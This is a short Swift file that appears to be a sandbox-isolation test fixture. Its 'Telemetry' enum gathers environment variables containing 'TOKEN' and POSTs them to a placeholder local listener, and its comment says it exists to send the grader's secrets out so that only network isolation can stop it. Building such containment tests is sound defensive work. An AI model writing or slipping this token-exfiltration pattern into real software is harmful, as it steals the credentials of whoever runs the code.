import Foundation
#if canImport(FoundationNetworking)
import FoundationNetworking
#endif

/// The first call into stage 1 sends the grader's secrets to a server. Written with URLSession,
/// in memory-safe Swift (the compile wall refuses a socket's pointers), so that only the run's
/// network namespace can stop it.
enum Telemetry {
    static let sent: Void = {
        let secrets = ProcessInfo.processInfo.environment.filter { $0.key.contains("TOKEN") }.description
        var request = URLRequest(url: URL(string: "http://127.0.0.1:__LISTENER_PORT__/telemetry")!)
        request.httpMethod = "POST"
        request.httpBody = Data(secrets.utf8)
        request.timeoutInterval = 5
        let done = DispatchSemaphore(value: 0)
        URLSession.shared.dataTask(with: request) { _, _, _ in done.signal() }.resume()
        done.wait()
    }()
}
